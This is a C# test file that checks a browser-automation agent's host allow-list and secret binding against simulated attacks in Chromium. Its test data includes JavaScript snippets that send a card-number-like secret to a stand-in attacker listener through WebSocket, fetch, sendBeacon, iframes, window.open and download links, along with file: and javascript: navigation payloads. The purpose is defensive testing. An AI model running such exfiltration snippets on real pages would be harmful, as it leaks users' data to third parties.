using System.Net;
using System.Net.Sockets;
using ActionAgent.Core.Actions;
using ActionAgent.Core.Policy;
using ActionAgent.Core.Ports;

namespace ActionAgent.Browser.Tests;

/// <summary>
/// Attacks on the allow-list and on secret binding, in a real Chromium: the site is served on 127.0.0.1 (allowed), and
/// a loopback listener reached as "localhost" stands in for the attacker's host. Nothing may reach the listener.
/// </summary>
[Collection("browser")]
public sealed class DriverPolicyAttackTests(BrowserFixture browser) : IDisposable
{
    private const string Secret = "4242424242424242";
    private readonly AttackerListener _attacker = new();

    public void Dispose() => _attacker.Dispose();

    private static Task<PlaywrightDriver> LaunchAsync(AllowList allowList) => PlaywrightDriver.LaunchAsync(new BrowserOptions { AllowList = allowList });

    private async Task OpenFormAsync(PlaywrightDriver driver, string host = "127.0.0.1")
    {
        var opened = await driver.ExecuteAsync(BrowserFixture.Act(ActionKind.Goto, null, browser.Site.Url("form.html", host)), CancellationToken.None);
        Assert.True(opened.Succeeded, opened.Error);
    }

    private string AttackerUrl(string scheme) => $"{scheme}://localhost:{_attacker.Port}/collect?c={Secret}";

    [Theory]
    [InlineData("new WebSocket(URL)", "ws")]
    [InlineData("fetch(URL, { mode: 'no-cors' }).catch(() => {})", "http")]
    [InlineData("navigator.sendBeacon(URL, 'x')", "http")]
    [InlineData("(() => { const f = document.createElement('iframe'); f.src = URL; document.body.appendChild(f); })()", "http")]
    [InlineData("window.open(URL)", "http")]
    [InlineData("(() => { const a = document.createElement('a'); a.href = URL; a.download = 'x'; document.body.appendChild(a); a.click(); })()", "http")]
    public async Task A_request_of_any_kind_to_a_host_outside_the_allow_list_never_leaves_the_browser(string script, string scheme)
    {
        await using var driver = await LaunchAsync(new AllowList(["127.0.0.1"]));
        await OpenFormAsync(driver);

        await driver.Page.EvaluateAsync($"URL => {{ {script}; }}", AttackerUrl(scheme));
        await Task.Delay(1500);

        Assert.Equal("", _attacker.Received);
    }

    [Fact]
    public async Task Without_an_allow_list_the_attacker_listener_does_see_a_websocket()
    {
        // The control for the test above: the listener would have seen the leak.
        await using var driver = await LaunchAsync(AllowList.AnyHost);
        await OpenFormAsync(driver);

        await driver.Page.EvaluateAsync("URL => { new WebSocket(URL); }", AttackerUrl("ws"));
        var deadline = DateTime.UtcNow.AddSeconds(5);
        while (_attacker.Received.Length == 0 && DateTime.UtcNow < deadline) await Task.Delay(100);

        Assert.Contains("collect?c=", _attacker.Received, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("file:///etc/hostname")]
    [InlineData("data:text/html,<h1>Sign in</h1>")]
    [InlineData("javascript:alert(1)")]
    public async Task A_goto_to_a_file_data_or_script_url_is_refused(string url)
    {
        await using var driver = await LaunchAsync(AllowList.AnyHost);
        await OpenFormAsync(driver);

        var result = await driver.ExecuteAsync(BrowserFixture.Act(ActionKind.Goto, null, url), CancellationToken.None);

        Assert.Equal(ActionFailureKind.NavigationFailed, result.FailureKind);
        Assert.StartsWith("http://127.0.0.1", driver.Page.Url, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_goto_to_an_absolute_path_stays_on_the_site_instead_of_opening_a_local_file()
    {
        await using var driver = await LaunchAsync(AllowList.AnyHost);
        await OpenFormAsync(driver);

        await driver.ExecuteAsync(BrowserFixture.Act(ActionKind.Goto, null, "/frames.html"), CancellationToken.None);

        Assert.Equal(browser.Site.Url("frames.html"), driver.Page.Url);
    }

    [Fact]
    public async Task A_secret_is_never_typed_into_a_page_on_another_host()
    {
        await using var driver = await LaunchAsync(AllowList.AnyHost);
        await OpenFormAsync(driver, host: "localhost");
        var fill = BrowserFixture.Act(ActionKind.Fill, new ElementTarget { Label = "From city" }, Secret, secret: true) with { SecretHosts = new AllowList(["127.0.0.1"]) };

        var result = await driver.ExecuteAsync(fill, CancellationToken.None);

        Assert.False(result.Succeeded);
        Assert.Contains("\"localhost\"", result.Error, StringComparison.Ordinal);
        Assert.DoesNotContain(Secret, result.Error, StringComparison.Ordinal);
        Assert.Equal("", await driver.Page.Locator("#from").InputValueAsync());
    }

    [Fact]
    public async Task A_secret_is_never_typed_into_a_cross_origin_frame_inside_an_allowed_page()
    {
        await using var driver = await LaunchAsync(AllowList.AnyHost);
        var opened = await driver.ExecuteAsync(BrowserFixture.Act(ActionKind.Goto, null, browser.Site.Url("frames.html")), CancellationToken.None);
        Assert.True(opened.Succeeded, opened.Error);
        var fill = BrowserFixture.Act(ActionKind.Fill, new ElementTarget { Label = "Cross card" }, Secret, secret: true) with { SecretHosts = new AllowList(["127.0.0.1"]) };

        var result = await driver.ExecuteAsync(fill, CancellationToken.None);

        Assert.False(result.Succeeded);
        Assert.Contains("\"localhost\"", result.Error, StringComparison.Ordinal);
        Assert.Equal("", await driver.Page.Frame("cross")!.Locator("#cross-card").InputValueAsync());
    }

    [Fact]
    public async Task A_secret_is_typed_on_its_own_host()
    {
        await using var driver = await LaunchAsync(AllowList.AnyHost);
        await OpenFormAsync(driver);
        var fill = BrowserFixture.Act(ActionKind.Fill, new ElementTarget { Label = "From city" }, Secret, secret: true) with { SecretHosts = new AllowList(["127.0.0.1"]) };

        var result = await driver.ExecuteAsync(fill, CancellationToken.None);

        Assert.True(result.Succeeded, result.Error);
        Assert.Equal(Secret, await driver.Page.Locator("#from").InputValueAsync());
    }

    [Fact]
    public async Task A_page_level_press_with_a_secret_keys_it_into_the_focused_field()
    {
        await using var driver = await LaunchAsync(AllowList.AnyHost);
        await OpenFormAsync(driver);
        await driver.Page.FocusAsync("#from");

        var result = await driver.ExecuteAsync(BrowserFixture.Act(ActionKind.Press, null, Secret, secret: true), CancellationToken.None);

        Assert.True(result.Succeeded, result.Error);
        Assert.Equal(Secret, await driver.Page.Locator("#from").InputValueAsync());
    }

    [Fact]
    public async Task A_goto_carrying_a_secret_is_refused_by_the_driver()
    {
        await using var driver = await LaunchAsync(AllowList.AnyHost);
        await OpenFormAsync(driver);

        var result = await driver.ExecuteAsync(BrowserFixture.Act(ActionKind.Goto, null, AttackerUrl("http"), secret: true), CancellationToken.None);
        await Task.Delay(500);

        Assert.Equal(ActionFailureKind.InvalidStep, result.FailureKind);
        Assert.Equal("", _attacker.Received);
    }

    /// <summary>
    /// A TCP listener on every loopback address (IPv4 and IPv6) that keeps every byte it is sent. Chromium may open a
    /// speculative connection (preconnect) before a request is routed; such a socket carries no data, so what counts
    /// as a leak is a byte received.
    /// </summary>
    private sealed class AttackerListener : IDisposable
    {
        private readonly TcpListener _listener = new(IPAddress.IPv6Any, 0);
        private readonly System.Text.StringBuilder _received = new();

        public AttackerListener()
        {
            _listener.Server.DualMode = true;
            _listener.Start();
            Port = ((IPEndPoint)_listener.LocalEndpoint).Port;
            _ = AcceptAsync();
        }

        public int Port { get; }

        public string Received
        {
            get
            {
                lock (_received) return _received.ToString();
            }
        }

        private async Task AcceptAsync()
        {
            while (true)
            {
                TcpClient client;
                try
                {
                    client = await _listener.AcceptTcpClientAsync();
                }
                catch (Exception e) when (e is SocketException or ObjectDisposedException or InvalidOperationException)
                {
                    return;
                }
                _ = ReadAsync(client);
            }
        }

        private async Task ReadAsync(TcpClient client)
        {
            using (client)
            {
                var buffer = new byte[4096];
                try
                {
                    using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(5));
                    var read = await client.GetStream().ReadAsync(buffer, timeout.Token);
                    lock (_received) _received.Append(System.Text.Encoding.ASCII.GetString(buffer, 0, read));
                }
                catch (Exception e) when (e is IOException or OperationCanceledException or ObjectDisposedException or SocketException)
                {
                    // A speculative connection that never sent anything.
                }
            }
        }

        public void Dispose() => _listener.Stop();
    }
}
